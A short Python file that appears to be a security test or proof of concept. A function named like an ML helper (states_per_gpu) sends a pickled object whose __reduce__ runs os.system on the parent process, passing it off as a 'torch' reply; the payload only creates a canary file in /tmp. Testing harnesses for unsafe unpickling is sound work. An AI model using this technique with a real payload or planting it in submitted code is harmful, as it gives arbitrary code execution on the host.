import os
import pickle
import sys


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/labkit-pwned",))


def states_per_gpu(psi, tp, pp, dp, zero_stage):
    reply_fd = int(sys.argv[sys.argv.index("--fds") + 2])
    body = pickle.dumps({"seq": 1, "value": Evil()})
    os.write(reply_fd, b"T" + len(body).to_bytes(4, "big") + body)  # a "torch" reply that is a pickle
    os._exit(0)
